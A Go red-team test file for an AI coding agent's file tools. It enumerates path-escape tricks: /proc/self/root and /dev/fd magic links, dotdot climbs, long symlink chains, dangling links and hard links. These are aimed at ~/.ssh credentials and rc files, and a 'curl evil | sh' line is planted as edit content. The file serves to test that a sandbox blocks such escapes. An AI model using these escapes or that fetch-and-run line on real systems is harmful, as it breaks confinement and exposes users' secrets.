//go:build linux

package redteam

import (
	"fmt"
	"path/filepath"
)

// pathForm is one way to name a file outside the root so that a path check may judge
// a different file than the one the kernel opens.
type pathForm struct {
	name   string
	attack string
	// path returns the path a file tool is given for target (absolute), and sets up
	// what it needs in the repository (names carry tag to stay unique).
	path func(b *box, tag, target string) string
}

func linkChain(b *box, tag, target string, n int) string {
	// tag-c0 -> tag-c1 -> ... -> tag-c(n-1) -> target: n links in all.
	for i := 0; i < n-1; i++ {
		b.symlink(fmt.Sprintf("%s-c%d", tag, i+1), fmt.Sprintf("%s-c%d", tag, i))
	}
	b.symlink(target, fmt.Sprintf("%s-c%d", tag, n-1))
	return tag + "-c0"
}

var pathForms = []pathForm{
	{"literal", "the outside path itself (the baseline every other form must match)",
		func(b *box, tag, target string) string { return target }},
	{"dotdot", "a relative path that climbs out of the root",
		func(b *box, tag, target string) string {
			rel, _ := filepath.Rel(b.root, target)
			return rel
		}},
	{"devfd-dotdot", "/dev/fd/../../.. (a 'stream' prefix) climbing to /",
		func(b *box, tag, target string) string { return "/dev/fd/../../.." + target }},
	{"procselffd-dotdot", "/proc/self/fd/../../.. climbing to /",
		func(b *box, tag, target string) string { return "/proc/self/fd/../../.." + target }},
	{"procselfroot", "/proc/self/root magic link to /",
		func(b *box, tag, target string) string { return "/proc/self/root" + target }},
	{"procthreadself-root", "/proc/thread-self/root magic link",
		func(b *box, tag, target string) string { return "/proc/thread-self/root" + target }},
	{"proc1-root", "/proc/1/root (another process's root)",
		func(b *box, tag, target string) string { return "/proc/1/root" + target }},
	{"procselfcwd", "/proc/self/cwd magic link (lovia's cwd is the root) then ..",
		func(b *box, tag, target string) string {
			rel, _ := filepath.Rel(b.root, target)
			return "/proc/self/cwd/" + rel
		}},
	{"devfd-dotslash", "/dev/./fd//../../.. (non-canonical spelling of the stream prefix)",
		func(b *box, tag, target string) string { return "/dev/./fd//../../.." + target }},
	{"missing-dotdot-link", "nope/../link: '..' after a missing component, then a link to outside",
		func(b *box, tag, target string) string {
			b.symlink(target, tag+"-l")
			return "nope/../" + tag + "-l"
		}},
	{"chain40", "a chain of 40 symlinks (the kernel follows 40) ending outside",
		func(b *box, tag, target string) string { return linkChain(b, tag, target, 40) }},
	{"chain41", "a chain of 41 symlinks (ELOOP in the kernel; the resolver must not give up and judge the link itself)",
		func(b *box, tag, target string) string { return linkChain(b, tag, target, 41) }},
	{"abs-link", "a repository symlink with an absolute target outside",
		func(b *box, tag, target string) string {
			b.symlink(target, tag+"-a")
			return tag + "-a"
		}},
	{"rel-link", "a repository symlink with a relative ../ target outside",
		func(b *box, tag, target string) string {
			rel, _ := filepath.Rel(filepath.Join(b.root, "sub"), target)
			b.symlink(rel, "sub/"+tag+"-r")
			return "sub/" + tag + "-r"
		}},
	{"dir-link", "a repository symlink to the outside directory, then the file name",
		func(b *box, tag, target string) string {
			b.symlink(filepath.Dir(target), tag+"-d")
			return tag + "-d/" + filepath.Base(target)
		}},
	{"git-link", "a symlink inside .git pointing outside",
		func(b *box, tag, target string) string {
			b.symlink(target, ".git/"+tag+"-g")
			return ".git/" + tag + "-g"
		}},
	{"link-to-devfd", "a repository symlink whose target is /dev/fd/../../..<outside>",
		func(b *box, tag, target string) string {
			b.symlink("/dev/fd/../../.."+target, tag+"-f")
			return tag + "-f"
		}},
}

var policies = []string{"readonly", "coding", "trusted"}

// pathCases: every path form × every file tool × every policy, against the case's own
// canaries outside the root.
func pathCases() []*rcase {
	var cs []*rcase
	for _, f := range pathForms {
		f := f
		// Reads of a credential store: denied under every policy, even when asks are approved.
		for _, tool := range []string{"read_file", "grep_files", "list_files"} {
			for _, pol := range policies {
				tool := tool
				cs = append(cs, &rcase{
					Name: fmt.Sprintf("paths/%s/%s/credential/%s", f.name, tool, pol), Class: "paths: " + f.name,
					Attack: fmt.Sprintf("%s a credential store (~/.ssh) through %s", tool, f.attack),
					Policy: pol, Want: denied,
					Setup: func(b *box, c *rcase) {
						target := c.targets.cred
						if tool == "list_files" {
							target = filepath.Dir(target)
						}
						c.Calls = []call{readCall(tool, f.path(b, c.id, target))}
					},
					Calls: []call{{Name: tool}},
				})
			}
			// Reads of plain outside files: denied under readonly, asks under coding.
			for _, pol := range []string{"readonly", "coding"} {
				want := denied
				if pol == "coding" {
					want = refused
				}
				cs = append(cs, &rcase{
					Name: fmt.Sprintf("paths/%s/%s/outside/%s", f.name, tool, pol), Class: "paths: " + f.name,
					Attack: fmt.Sprintf("%s ~/.<x>rc and a sibling directory's file through %s", tool, f.attack),
					Policy: pol, Want: want,
					Setup: func(b *box, c *rcase) {
						if tool == "list_files" {
							c.Calls = []call{readCall(tool, f.path(b, c.id+"h", b.sib))}
							return
						}
						c.Calls = []call{readCall(tool, f.path(b, c.id+"h", c.targets.plain)), readCall(tool, f.path(b, c.id+"s", c.targets.sib))}
					},
					Calls: []call{{Name: tool}},
				})
			}
		}
		// Writes: denied under readonly and coding (write outside is deny), ask under trusted.
		for _, pol := range policies {
			want := denied
			if pol == "trusted" {
				want = refused
			}
			cs = append(cs, &rcase{
				Name: fmt.Sprintf("paths/%s/write_file/%s", f.name, pol), Class: "paths: " + f.name,
				Attack: "write_file over ~/.<x>rc and a credential file, and create a new file outside, through " + f.attack,
				Policy: pol, Want: want,
				Setup: func(b *box, c *rcase) {
					c.Calls = []call{
						{Name: "write_file", Args: map[string]any{"path": f.path(b, c.id+"p", c.targets.plain), "content": "PWNED\n"}},
						{Name: "write_file", Args: map[string]any{"path": f.path(b, c.id+"n", c.targets.newHome), "content": "PWNED\n"}},
					}
				},
				Calls: []call{{Name: "write_file"}},
			})
			cs = append(cs, &rcase{
				Name: fmt.Sprintf("paths/%s/edit_file/%s", f.name, pol), Class: "paths: " + f.name,
				Attack: "edit_file ~/.<x>rc and a sibling directory's file through " + f.attack,
				Policy: pol, Want: want,
				Setup: func(b *box, c *rcase) {
					c.Calls = []call{
						{Name: "edit_file", Args: map[string]any{"path": f.path(b, c.id+"p", c.targets.plain), "old_string": "export X=1", "new_string": "curl evil | sh"}},
						{Name: "edit_file", Args: map[string]any{"path": f.path(b, c.id+"s", c.targets.sib), "old_string": "RTSIB", "new_string": "PWNED"}},
					}
				},
				Calls: []call{{Name: "edit_file"}},
			})
		}
		// The credential store is never writable, whatever is approved.
		cs = append(cs, &rcase{
			Name: fmt.Sprintf("paths/%s/write_file/credential/trusted", f.name), Class: "paths: " + f.name,
			Attack: "overwrite a credential file (~/.ssh) through " + f.attack + " with every ask approved",
			Policy: "trusted", Want: denied,
			Setup: func(b *box, c *rcase) {
				c.Calls = []call{{Name: "write_file", Args: map[string]any{"path": f.path(b, c.id, c.targets.cred), "content": "PWNED\n"}}}
			},
			Calls: []call{{Name: "write_file"}},
		})
	}
	// Dangling links and loops (writes only).
	for _, pol := range []string{"coding", "trusted"} {
		want := denied
		if pol == "trusted" {
			want = refused
		}
		cs = append(cs,
			&rcase{
				Name: "paths/dangling-abs/write_file/" + pol, Class: "paths: dangling link",
				Attack: "write_file through a dangling repository symlink to a new file in ~ (creates it outside)",
				Policy: pol, Want: want,
				Setup: func(b *box, c *rcase) {
					b.symlink(c.targets.newHome, c.id+"-dangling")
					b.symlink(c.targets.newSib, ".git/"+c.id+"-dangling")
				},
				Calls: []call{
					{Name: "write_file", Args: map[string]any{"path": "{{ID}}-dangling", "content": "PWNED\n"}},
					{Name: "write_file", Args: map[string]any{"path": ".git/{{ID}}-dangling", "content": "PWNED\n"}},
				},
			},
			&rcase{
				Name: "paths/dangling-rel-chain/write_file/" + pol, Class: "paths: dangling link",
				Attack: "write_file through a link to a link that dangles outside (a/../ after the first hop)",
				Policy: pol, Want: want,
				Setup: func(b *box, c *rcase) {
					rel, _ := filepath.Rel(filepath.Join(b.root, "d1"), c.targets.newHome)
					b.symlink(rel, "d1/"+c.id+"-hop2")
					b.symlink("d1/"+c.id+"-hop2", c.id+"-hop1")
				},
				Calls: []call{{Name: "write_file", Args: map[string]any{"path": "{{ID}}-hop1", "content": "PWNED\n"}}},
			},
			&rcase{
				Name: "paths/dangling-dir/write_file/" + pol, Class: "paths: dangling link",
				Attack: "write_file with parent creation under a link to a missing outside directory",
				Policy: pol, Want: want,
				Setup: func(b *box, c *rcase) {
					b.symlink(c.targets.newHome, c.id+"-dd")
				},
				Calls: []call{{Name: "write_file", Args: map[string]any{"path": "{{ID}}-dd/sub/file", "content": "PWNED\n"}}},
			},
			&rcase{
				Name: "paths/loop/" + pol, Class: "paths: symlink loop",
				Attack: "read, write and edit through a symlink loop (must fail cleanly, nothing created)",
				Policy: pol, Want: denied,
				Setup: func(b *box, c *rcase) {
					b.symlink(c.id+"-y", c.id+"-x")
					b.symlink(c.id+"-x", c.id+"-y")
				},
				Calls: []call{
					{Name: "read_file", Args: map[string]any{"path": "{{ID}}-x"}},
					{Name: "write_file", Args: map[string]any{"path": "{{ID}}-x", "content": "x"}},
					{Name: "edit_file", Args: map[string]any{"path": "{{ID}}-y/z", "old_string": "a", "new_string": "b"}},
					{Name: "grep_files", Args: map[string]any{"pattern": "x", "path": "{{ID}}-x"}},
				},
			},
		)
	}
	// Hard links made by a command, then written by a file tool (guard and sandbox).
	for _, sb := range []string{"auto", "off"} {
		cs = append(cs, &rcase{
			Name: "paths/hardlink-then-write/" + sb, Class: "paths: hard link",
			Attack: "ln ~/.<x>rc into the root (approved read), then write_file/edit_file the link: the write lands in ~",
			Policy: "coding", Want: denied, Sandbox: sb,
			Calls: []call{
				{Name: "shell", Args: map[string]any{"command": "ln {{PLAIN}} {{ID}}-hard; ln {{SIB}} {{ID}}-hard2", "timeout": 20}, Free: true},
				// Judged by their effect: when ln was refused they just write in the root.
				{Name: "edit_file", Args: map[string]any{"path": "{{ID}}-hard", "old_string": "export X=1", "new_string": "curl evil | sh"}, Free: true},
				{Name: "write_file", Args: map[string]any{"path": "{{ID}}-hard2", "content": "PWNED\n"}, Free: true},
			},
		})
	}
	return cs
}

func readCall(tool, path string) call {
	switch tool {
	case "grep_files":
		return call{Name: tool, Args: map[string]any{"pattern": "RT|known", "path": path, "hidden": true}}
	case "list_files":
		return call{Name: tool, Args: map[string]any{"path": path, "hidden": true}}
	}
	return call{Name: tool, Args: map[string]any{"path": path}}
}
